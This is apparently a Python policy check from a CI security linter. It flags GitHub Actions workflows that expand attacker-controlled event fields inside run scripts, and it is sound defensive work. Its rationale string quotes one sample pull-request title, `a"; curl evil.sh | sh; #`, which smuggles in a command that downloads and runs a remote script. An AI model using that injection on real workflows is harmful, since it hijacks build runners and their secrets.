"""ORG-GHA-003: untrusted `${{ }}` expressions expanded into code."""
from __future__ import annotations

from collections.abc import Iterator

from checker.documents import Document, YamlMap
from checker.policy import Context, Violation, policy

from .._helpers import text_lines
from .workflow import EXPRESSION, UNTRUSTED, action_name, jobs, run_text, steps, text_operands


@policy(
    id="ORG-GHA-003",
    title="Untrusted event data is not expanded inside run scripts",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "`${{ }}` is substituted into the script before the shell runs it, so a pull request title such as "
        "`a\"; curl evil.sh | sh; #` becomes code (script injection)."
    ),
    remediation="""
        Pass the value through an environment variable and quote it in the shell:

            - name: Greet
              env:
                TITLE: ${{ github.event.pull_request.title }}
              run: echo "Title: $TITLE"
    """,
    controls=["PCI-DSS-4.0:6.2.4"],
    tags=["ci-security", "injection"],
    covers=["CKV_GHA_2"],  # the same untrusted contexts in run:, and more of them, and github-script too
)


def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No `run:` script (and no `actions/github-script` `script:`) expands an expression an outsider
    controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and
    authors, branch names (`github.head_ref`, `...head.ref`, `workflow_run.head_branch`) and similar.

    Expressions that only yield true/false (`${{ github.event.issue.title == 'x' }}`,
    `${{ contains(github.head_ref, 'docs') }}`) carry no text and are exempt; functions that pass text on
    (`format()`, `toJSON()`, `||`) are not. Each finding points at the line of the script that holds
    the expression.
    """
    for job_id, job, _ in jobs(doc.data):
        for i, step in steps(job):
            scripts: list[tuple[str, int, str]] = []
            if run_text(step):
                scripts.append((run_text(step), step.line_of("run"), "run"))
            with_ = step.get("with")
            if action_name(step.get("uses")).lower() == "actions/github-script" and isinstance(with_, YamlMap) \
                    and isinstance(with_.get("script"), str):
                scripts.append((with_["script"], with_.line_of("script"), "with.script"))
            for script, start, key in scripts:
                for line, piece in text_lines(script, doc.text, start, step.end_line):
                    for expression in EXPRESSION.findall(piece):
                        found = next(filter(None, (UNTRUSTED.search(part) for part in text_operands(expression))), None)
                        if found:
                            yield Violation(f"untrusted `{found.group(0)}` is expanded inside {key}; "
                                            "pass it through env: instead", line, f"jobs.{job_id}.steps[{i}].{key}")
